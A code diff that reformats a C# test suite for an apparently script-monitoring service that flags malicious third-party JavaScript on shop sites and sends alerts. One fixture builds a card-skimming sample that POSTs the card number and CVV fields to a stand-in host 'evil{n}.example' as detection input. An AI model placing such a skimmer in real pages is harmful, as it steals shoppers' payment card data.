@@ -54,14 +54,16 @@ public sealed class InterruptedVerdictTests
     {
         var signal = new AlertSignal();
         var verdicts = new VerdictUpdate(new RecordingTransaction(databases, new PipelineSignals(signal)), new AlertRaiser(shops.Clock));
-        var analysis = new ScriptAnalysis(new JudgementQueue(databases, new ScriptExaminer(), shops.Clock), verdicts, NullLogger<ScriptAnalysis>.Instance);
+        var analysis =
+            new ScriptAnalysis(new JudgementQueue(databases, new ScriptExaminer(), shops.Clock), verdicts, NullLogger<ScriptAnalysis>.Instance);
         while (await analysis.AnalyseNextAsync(Cancel))
         {
         }
 
         var options = Options.Create(new AlertOptions { DashboardUrl = new Uri("https://shield.example/") });
         var sender = new AlertSender(
-            databases, [shops.Sent], signal, new DeliveryLog(databases, signal, options, shops.Clock), new AlertEscalator(databases, shops.Clock, NullLogger<AlertEscalator>.Instance), options,
+            databases, [shops.Sent], signal, new DeliveryLog(databases, signal, options, shops.Clock),
+            new AlertEscalator(databases, shops.Clock, NullLogger<AlertEscalator>.Instance), options,
             Options.Create(new MailOptions()), shops.Clock, NullLogger<AlertSender>.Instance);
         await sender.SendDueAsync(Cancel);
         if (stop) throw new ProcessStoppedException();
@@ -73,13 +75,18 @@ public sealed class InterruptedVerdictTests
         var site = await shops.AddShopAsync($"shop{number}.example");
         var script = await shops.AddScriptAsync(site, $"https://vendor{number}.example/x.js");
         var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
-        var content = new ScriptContent { Sha256 = Sha256Hash.OfText(source), Length = source.Length, Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)), FirstSeenAt = shops.Clock.GetUtcNow() };
+        var content =
+            new ScriptContent { Sha256 = Sha256Hash.OfText(source), Length = source.Length,
+            Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)), FirstSeenAt = shops.Clock.GetUtcNow() };
         await shops.AskAsync(async database =>
         {
             database.ScriptContents.Add(content);
-            database.ScriptVersions.Add(new ScriptVersion { SiteId = site.Id, ScriptId = script.Id, Sha256 = content.Sha256, Url = script.Url, FirstSeenAt = shops.Clock.GetUtcNow(), LastSeenAt = shops.Clock.GetUtcNow() });
+            database.ScriptVersions.Add(
+                new ScriptVersion { SiteId = site.Id, ScriptId = script.Id, Sha256 = content.Sha256, Url = script.Url,
+                FirstSeenAt = shops.Clock.GetUtcNow(), LastSeenAt = shops.Clock.GetUtcNow() });
             (await database.Scripts.SingleAsync(row => row.SiteId == site.Id && row.Id == script.Id, Cancel)).CurrentSha256 = content.Sha256;
-            JudgementQueue.Enqueue(database, [content], site.Id, new Dictionary<Sha256Hash, long> { [content.Sha256] = script.Id }, shops.Clock.GetUtcNow());
+            JudgementQueue.Enqueue(
+                database, [content], site.Id, new Dictionary<Sha256Hash, long> { [content.Sha256] = script.Id }, shops.Clock.GetUtcNow());
             return 0;
         });
         return (site, content.Sha256);
@@ -88,8 +95,10 @@ public sealed class InterruptedVerdictTests
     private static async Task AssertToldOnceAsync(AlertedShops shops, Site site, Sha256Hash content, int statement)
     {
         await using var database = shops.Database.CreateDbContext();
-        Assert.Equal(VerdictKind.Malicious, await database.Scripts.Where(script => script.SiteId == site.Id).Select(script => script.Verdict).SingleAsync(Cancel));
-        Assert.False(await database.PendingJudgements.AnyAsync(row => row.Sha256 == content, Cancel), $"Ended after statement {statement}: the content still waits.");
+        Assert.Equal(VerdictKind.Malicious,
+            await database.Scripts.Where(script => script.SiteId == site.Id).Select(script => script.Verdict).SingleAsync(Cancel));
+        Assert.False(await database.PendingJudgements.AnyAsync(row => row.Sha256 == content, Cancel),
+            $"Ended after statement {statement}: the content still waits.");
         var alerts = await database.Alerts.Where(alert => alert.SiteId == site.Id).ToListAsync(Cancel);
         Assert.True(alerts.Count == 1, $"Ended after statement {statement}: {alerts.Count} alerts.");
         var delivery = Assert.Single(await database.AlertDeliveries.Where(row => row.SiteId == site.Id).ToListAsync(Cancel));
